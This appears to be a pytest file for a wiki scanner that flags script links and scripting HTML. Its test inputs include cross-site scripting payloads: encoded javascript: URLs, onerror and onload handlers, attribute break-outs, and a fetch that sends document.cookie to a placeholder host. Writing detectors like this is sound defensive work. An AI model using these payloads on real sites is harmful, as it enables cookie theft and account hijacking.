"""Active content: script and data targets of links and images, script in raw HTML."""

import pytest

from wiki.scanner import is_flagged, scan
from wiki.tests.scanner.helpers import first


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("[click](javascript:alert(document.cookie))", "script-link"),
        ("[click](JaVa&#x09;ScRiPt:alert(1))", "script-link"),
        ("![x](data:text/html;base64,PHNjcmlwdD4=)", "script-link"),
        ('<a href="vbscript:msgbox(1)">x</a>', "script-link"),
        ("[ref]: javascript:alert(1)\n\nSee [ref].", "script-link"),
        ("<javascript:alert(1)>", "script-link"),
        ('<img src="x" onerror="fetch(\'https://e.example/?c=\'+document.cookie)">', "active-html"),
        ("<svg/onload=alert(1)>", "active-html"),
        ("<script>fetch('https://e.example')</script>", "active-html"),
        ('<iframe src="https://e.example/login"></iframe>', "active-html"),
    ],
)
def test_it_flags_script_targets_and_scripting_html(text, rule):
    assert first(text, rule).severity == "high"


def test_a_script_url_written_out_is_flagged_at_medium():
    assert first("Set the link to javascript:alert(1) for the demo.", "script-link").severity == (
        "medium"
    )


@pytest.mark.parametrize(
    "text",
    [
        "![logo](data:image/png;base64,iVBORw0KGgo=)",
        "Use `javascript:void(0)` as the href of a placeholder link.",
        '```html\n<a href="javascript:go()">go</a>\n<script>go()</script>\n```',
        "[docs](https://docs.example/page) and [mail](mailto:ops@example.org)",
    ],
)
def test_inline_pictures_code_and_web_links_are_not_flagged(text):
    assert not is_flagged(scan(text)), scan(text)


@pytest.mark.parametrize(
    "text",
    [
        "Title: x\" onfocus=\"document.location='https://t.example'",
        "![chart' onerror='fetch(1)](chart.png)",
        "[open](javascript&#58;alert(1))",
        "<img src=`javascript:alert(1)`>",
    ],
)
def test_it_flags_attribute_break_outs_and_encoded_script_targets(text):
    assert {f.rule for f in scan(text) if f.severity == "high"} & {"active-html", "script-link"}


def test_an_attribute_named_in_prose_is_not_a_break_out():
    text = 'Give the image a width="3" and use onload handlers sparingly.'
    assert not is_flagged(scan(text)), scan(text)
